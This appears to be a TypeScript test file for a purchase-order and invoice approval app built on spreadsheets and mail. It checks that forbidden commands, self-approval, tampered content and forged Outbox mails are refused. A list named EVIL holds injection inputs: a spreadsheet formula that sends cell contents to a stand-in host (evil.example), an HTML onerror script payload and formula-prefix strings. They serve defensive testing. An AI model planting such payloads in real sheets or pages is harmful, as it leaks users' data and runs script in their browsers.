// What people do with the commands they may use, or with texts and mails: their own orders, limits,
// contents changed under somebody's eyes, formulas and markup in every field.
import { StepFailed } from '../../../sandbox';
import { after, tried } from './cells';
import type { Became } from './lines';
import type { Answer, Register } from './register';
import { ANA, BEN, CLEO, OLGA, STRANGER, VERA } from './register';

const outcome = (does: () => Answer): Became => {
  try {
    return does().ok ? 'went' : 'refused';
  } catch (error) {
    if (error instanceof StepFailed) return 'refused';
    throw error;
  }
};
/** A person's own command, also of one who has no business here. */
const sends = (own: Register, person: string, command: string, input: object): Became =>
  outcome(() => own.work.as(person).execute({ id: 'q-1', command, input } as never) as Answer);

const decides = (own: Register, person: string, more: object = {}): Became =>
  outcome(() =>
    own.run(person, 'decide_approval', {
      ...{ key: own.keys.asked, decision: 'approve', fingerprint: own.fingerprint, ...more },
    }),
  );

const EVIL = [
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '<img src=x onerror=alert(1)>',
  '+SUM(one, two, three)',
  "@SUM(one, two)\u0007'",
];
/** Every text of the commands that take most of them, each with another one of these. */
function evilInputs(own: Register): [string, string, object][] {
  let turn = 0;
  const evil = (): string => EVIL[(turn += 1) % EVIL.length] ?? '';
  const texts = (names: string): object =>
    Object.fromEntries(names.split(' ').map((name) => [name, evil()]));
  const day = own.work.now.slice(0, 10);
  const [poNumber, invoiceId] = ['PO-2026-0002', own.invoiceId];
  const line = { ...texts('description unit'), quantity: '1', unitPrice: '1.00' };
  const order = {
    ...texts('vendor description category terms contractRef deliverTo deliveryTerms shipVia'),
    ...{ costCentre: 'IT', currency: 'EUR', lines: [line] },
  };
  const bill = { orderLine: 1, quantity: '1', unitPrice: '20.00' };
  const document = {
    ...{ vendor: 'Acme Oy', number: evil(), date: day, currency: 'EUR', kind: 'invoice', poNumber },
    lines: [bill],
  };
  const { fingerprint } = own;
  const rejected = { key: own.keys.asked, decision: 'reject', fingerprint };
  const came = { poNumber, day, lines: [{ line: 1, received: '1' }] };
  return [
    [ANA, 'submit_order', order],
    [ANA, 'record_receipt', { ...came, ...texts('deliveryNote') }],
    [CLEO, 'enter_invoice', document],
    [CLEO, 'initiate_payment', { invoiceId, amount: '1.00', day, ...texts('reference') }],
    [BEN, 'hold_order', { poNumber, reason: evil() }],
    [CLEO, 'decide_approval', { ...rejected, reason: evil() }],
  ];
}
/** Formulas in the file, and mails whose page holds a tag of somebody's own. */
export function evaluated(own: Register): string[] {
  const { file } = own.work.file('main');
  const cells = file.cells(OLGA);
  const formulas = file.tabs().flatMap(({ sheetId }) => {
    const [rows, columns] = [cells.lastRow(sheetId), cells.lastColumn(sheetId)];
    if (rows === 0 || columns === 0) return [];
    return cells.formulas({ sheetId, top: 0, left: 0, rows, columns }).flat();
  });
  const pages = own.work.mail().map(({ htmlBody }) => (htmlBody?.includes('<img') ? htmlBody : ''));
  return [...formulas, ...pages].filter((one) => (one ?? '') !== '').map(String);
}
function evilTexts(own: Register): Became {
  own.work.mail();
  for (const [person, command, input] of evilInputs(own)) own.done(person, command, input);
  return evaluated(own).length === 0 ? 'kept as text' : 'went';
}

function mailTyped(own: Register, person: string): Became {
  const { header, values } = own.tab('Outbox');
  const typed: { [name: string]: string } = {
    ...{ Key: 'M-1-9', State: 'waiting', To: STRANGER, Subject: 'Pay me', Body: 'At once' },
    'Created at': '2026-10-05T08:00:00.000Z',
  };
  const cells = header.map((name) => typed[name] ?? null);
  return tried(() => own.put(person, 'Outbox', { at: values.length + 2, cells }));
}

export const PEOPLE: { readonly [what: string]: (own: Register) => Became } = {
  'a command sent by who may only look': (own) =>
    sends(own, VERA, 'submit_order', own.order('10.00')),
  'a command sent by a stranger': (own) => sends(own, STRANGER, 'submit_order', own.order('10.00')),
  'one’s own order approved': (own) => decides(own, ANA),
  'a content approved that is not the one that was shown': (own) =>
    decides(own, BEN, { fingerprint: 'f'.repeat(64) }),
  'an order approved above one’s limit': (own) => {
    let asked: Answer['value'] = {};
    return after(
      own,
      () => (asked = own.done(ANA, 'submit_order', own.order('250.00'))),
      () => decides(own, BEN, { key: asked['draftKey'], fingerprint: asked['fingerprint'] }),
    );
  },
  'a setting typed by who may not': (own) =>
    tried(() =>
      own.type(
        own.profile === 'solo' ? VERA : ANA,
        { tab: 'Settings', key: 'direction' },
        { Value: 'both' },
      ),
    ),
  'a setting typed by the owner': (own) =>
    tried(() => own.type(OLGA, { tab: 'Settings', key: 'direction' }, { Value: 'both' })),
  'a formula or markup in every field': evilTexts,
  'a mail typed into *Outbox*': (own) => mailTyped(own, own.by(BEN)),
  'a mail that was sent marked as waiting': (own) =>
    tried(() =>
      own.type(own.by(BEN), { tab: 'Outbox', key: 'M-4-1' }, { State: 'waiting', 'Sent at': null }),
    ),
};
